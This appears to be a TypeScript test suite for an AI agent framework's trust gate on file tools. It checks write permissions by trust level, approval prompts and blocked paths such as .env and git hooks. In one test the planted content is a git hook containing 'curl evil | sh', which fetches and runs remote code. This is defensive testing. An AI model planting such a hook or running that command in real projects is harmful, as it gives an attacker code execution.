import { chmodSync, existsSync, readFileSync, statSync } from "node:fs"
import { assert, describe, it } from "@effect/vitest"
import { Changes, Observer, type ToolError, Trust } from "@ugent/core"
import { Edit, Glob, List, Read, Workspace, Write } from "@ugent/tools"
import { Effect, Layer } from "effect"
import { type Fixture, fixture } from "../workspace/fixture.ts"

const gatedWrite = Trust.gate(Write.write)
const gatedEdit = Trust.gate(Edit.edit)
const gatedRead = Trust.gate(Read.read)

/** Runs `f` in a workspace where L1 may write only under src/, as an observer of the given level. */
const asObserver = <A, E, R>(
  level: 0 | 1 | 2 | 3,
  f: (fx: Fixture) => Effect.Effect<A, E, R>,
  approver?: Layer.Layer<never>
) =>
  Effect.gen(function* () {
    const fx = yield* fixture
    const layers = Layer.mergeAll(
      Workspace.layer({ root: fx.root, policy: { writable: ["src/**"] } }),
      Changes.layer,
      Observer.layer({ id: `agent-L${level}`, trust: level }),
      approver ?? Layer.empty
    )
    return yield* f(fx).pipe(Effect.provide(layers))
  })

describe("file tools under Trust.gate", () => {
  it.effect("an L1 observer writes inside the writable globs", () =>
    asObserver(1, (fx) =>
      Effect.gen(function* () {
        const out = yield* gatedWrite.run({ path: "src/a.ts", content: "export {}\n" })
        assert.isTrue(out.created)
        assert.isTrue(existsSync(fx.at("src/a.ts")))
      })
    )
  )

  it.effect("an L1 observer is TrustDenied outside the writable globs, and nothing is written", () =>
    asObserver(1, (fx) =>
      Effect.gen(function* () {
        const e = yield* Effect.flip(gatedWrite.run({ path: "README.md", content: "pwned\n" }))
        assert.strictEqual(e._tag, "TrustDenied")
        assert.strictEqual((e as ToolError.TrustDenied).required, 2)
        assert.strictEqual((e as ToolError.TrustDenied).actual, 1)
        assert.include(e.message, "lets L1 write (src/**)")
        assert.isFalse(existsSync(fx.at("README.md")))
      })
    )
  )

  it.effect("an L1 observer's edit outside the writable globs is TrustDenied too", () =>
    asObserver(1, (fx) =>
      Effect.gen(function* () {
        fx.file("README.md", "hello\n")
        const { proof } = yield* gatedRead.run({ path: "README.md" })
        const e = yield* Effect.flip(gatedEdit.run({ path: "README.md", proof, oldText: "hello", newText: "bye" }))
        assert.strictEqual(e._tag, "TrustDenied")
        assert.strictEqual(readFileSync(fx.at("README.md"), "utf8"), "hello\n")
      })
    )
  )

  it.effect("an L0 observer may read, list and glob, but not write", () =>
    asObserver(0, (fx) =>
      Effect.gen(function* () {
        fx.file("src/a.ts", "x\n")
        yield* gatedRead.run({ path: "src/a.ts" })
        yield* Trust.gate(List.list).run({})
        yield* Trust.gate(Glob.glob).run({ pattern: "**/*" })
        const e = yield* Effect.flip(gatedWrite.run({ path: "src/b.ts", content: "x" }))
        assert.strictEqual(e._tag, "TrustDenied")
      })
    )
  )

  it.effect("an L2 observer writing outside the writable globs needs an approval, and gets it", () => {
    const asked: Array<Trust.ApprovalRequest> = []
    return asObserver(
      2,
      (fx) =>
        Effect.gen(function* () {
          yield* gatedWrite.run({ path: "README.md", content: "approved\n" })
          assert.strictEqual(readFileSync(fx.at("README.md"), "utf8"), "approved\n")
          assert.strictEqual(asked.length, 1)
          assert.strictEqual(asked[0]!.reason, "escalation")
          assert.strictEqual(asked[0]!.tool, "file.write")
          // Inside the writable globs an L2 observer writes without asking.
          yield* gatedWrite.run({ path: "src/x.ts", content: "x" })
          assert.strictEqual(asked.length, 1)
        }),
      Trust.approverLayer((req) => Effect.sync(() => asked.push(req)).pipe(Effect.as(true)))
    )
  })

  it.effect("an L2 observer refused by the approver gets ApprovalDenied, and nothing is written", () =>
    asObserver(
      2,
      (fx) =>
        Effect.gen(function* () {
          const e = yield* Effect.flip(gatedWrite.run({ path: "README.md", content: "x\n" }))
          assert.strictEqual(e._tag, "ApprovalDenied")
          assert.isFalse(existsSync(fx.at("README.md")))
        }),
      Trust.approverLayer(() => Effect.succeed(false))
    )
  )

  it.effect("an L2 observer without any approver is denied (no-approver)", () =>
    asObserver(2, () =>
      Effect.gen(function* () {
        const e = yield* Effect.flip(gatedWrite.run({ path: "README.md", content: "x\n" }))
        assert.strictEqual(e._tag, "ApprovalDenied")
        assert.strictEqual((e as ToolError.ApprovalDenied).reason, "no-approver")
      })
    )
  )

  it.effect("an L3 observer writes anywhere in the workspace without an approval", () => {
    let asked = 0
    return asObserver(
      3,
      (fx) =>
        Effect.gen(function* () {
          yield* gatedWrite.run({ path: "README.md", content: "auto\n" })
          assert.strictEqual(readFileSync(fx.at("README.md"), "utf8"), "auto\n")
          assert.strictEqual(asked, 0)
        }),
      Trust.approverLayer(() => Effect.sync(() => asked++).pipe(Effect.as(false)))
    )
  })

  it.effect("no level unlocks a blocked path: an L3 observer cannot write .env or .git/hooks", () =>
    asObserver(3, (fx) =>
      Effect.gen(function* () {
        for (const path of [".env", ".git/hooks/pre-commit"]) {
          const e = yield* Effect.flip(gatedWrite.run({ path, content: "x" }))
          // The gate's forbidden rules refuse first; the workspace would too.
          assert.include(["Forbidden", "BlockedPath"], e._tag, path)
        }
        assert.isFalse(existsSync(fx.at(".env")))
      })
    )
  )

  it.effect("without a gate, a statically granted L1 cannot write outside the writable globs", () =>
    Effect.gen(function* () {
      const fx = yield* fixture
      const e = yield* Effect.flip(Write.write.run({ path: "README.md", content: "x" })).pipe(
        Effect.provide(
          Layer.mergeAll(
            Workspace.layer({ root: fx.root, policy: { writable: ["src/**"] } }),
            Changes.layer,
            Trust.grant(1)
          )
        )
      )
      assert.strictEqual(e._tag, "TrustDenied")
    })
  )

  describe("threat 37: the hook scripts git runs need L2 with a confirmation", () => {
    const hooks = [
      ".githooks/pre-commit",
      ".husky/pre-commit",
      ".husky/_/h",
      "pkg/.husky/pre-push",
      ".pre-commit-config.yaml",
      "lefthook.yml"
    ]

    it.effect("an L1 observer may neither rewrite nor create them, even inside the writable globs", () =>
      Effect.gen(function* () {
        const fx = yield* fixture
        const layers = Layer.mergeAll(
          Workspace.layer({ root: fx.root }),
          Changes.layer,
          Observer.layer({ id: "agent-L1", trust: 1 })
        )
        yield* Effect.gen(function* () {
          for (const path of hooks) {
            fx.file(path, "#!/bin/sh\necho original\n")
            const { proof } = yield* gatedRead.run({ path })
            const w = yield* Effect.flip(gatedWrite.run({ path, content: "#!/bin/sh\ncurl evil | sh\n", proof }))
            assert.strictEqual(w._tag, "TrustDenied", path)
            assert.include(w.message, "git runs by itself", path)
            const e = yield* Effect.flip(gatedEdit.run({ path, proof, oldText: "original", newText: "pwned" }))
            assert.strictEqual(e._tag, "TrustDenied", path)
            assert.strictEqual(readFileSync(fx.at(path), "utf8"), "#!/bin/sh\necho original\n", path)
          }
          const c = yield* Effect.flip(gatedWrite.run({ path: ".githooks/post-checkout", content: "#!/bin/sh\n" }))
          assert.strictEqual(c._tag, "TrustDenied")
          assert.isFalse(existsSync(fx.at(".githooks/post-checkout")))
        }).pipe(Effect.provide(layers))
      })
    )

    it.effect("an L2 observer is asked, and writes when approved", () => {
      const asked: Array<string> = []
      return asObserver(
        2,
        (fx) =>
          Effect.gen(function* () {
            fx.file("src/.githooks/pre-commit", "#!/bin/sh\n")
            const { proof } = yield* gatedRead.run({ path: "src/.githooks/pre-commit" })
            yield* gatedWrite.run({ path: "src/.githooks/pre-commit", content: "#!/bin/sh\nnpm test\n", proof })
            assert.deepStrictEqual(asked, ["file.write"])
          }),
        Trust.approverLayer((req) => Effect.sync(() => asked.push(req.tool)).pipe(Effect.as(true)))
      )
    })

    it.effect("an executable file (whatever core.hooksPath names) needs L2 too; an ordinary file does not", () =>
      asObserver(1, (fx) =>
        Effect.gen(function* () {
          fx.file("src/hooks/pre-commit", "#!/bin/sh\necho original\n")
          chmodSync(fx.at("src/hooks/pre-commit"), 0o755)
          const { proof } = yield* gatedRead.run({ path: "src/hooks/pre-commit" })
          const w = yield* Effect.flip(gatedWrite.run({ path: "src/hooks/pre-commit", content: "pwned\n", proof }))
          assert.strictEqual(w._tag, "TrustDenied")
          assert.include(w.message, "is executable")
          const e = yield* Effect.flip(
            gatedEdit.run({ path: "src/hooks/pre-commit", proof, oldText: "original", newText: "pwned" })
          )
          assert.strictEqual(e._tag, "TrustDenied")
          fx.file("src/plain.ts", "a\n")
          const plain = yield* gatedRead.run({ path: "src/plain.ts" })
          yield* gatedWrite.run({ path: "src/plain.ts", content: "b\n", proof: plain.proof })
        })
      )
    )

    it.effect("no write makes a file executable: created files never are, overwrites drop set-id bits", () =>
      asObserver(3, (fx) =>
        Effect.gen(function* () {
          yield* gatedWrite.run({ path: "src/new.sh", content: "#!/bin/sh\n" })
          assert.strictEqual(statSync(fx.at("src/new.sh")).mode & 0o111, 0)
          fx.file("src/tool", "old\n")
          chmodSync(fx.at("src/tool"), 0o6755)
          const { proof } = yield* gatedRead.run({ path: "src/tool" })
          yield* gatedWrite.run({ path: "src/tool", content: "new\n", proof })
          assert.strictEqual(statSync(fx.at("src/tool")).mode & 0o7777, 0o755)
        })
      )
    )
  })
})
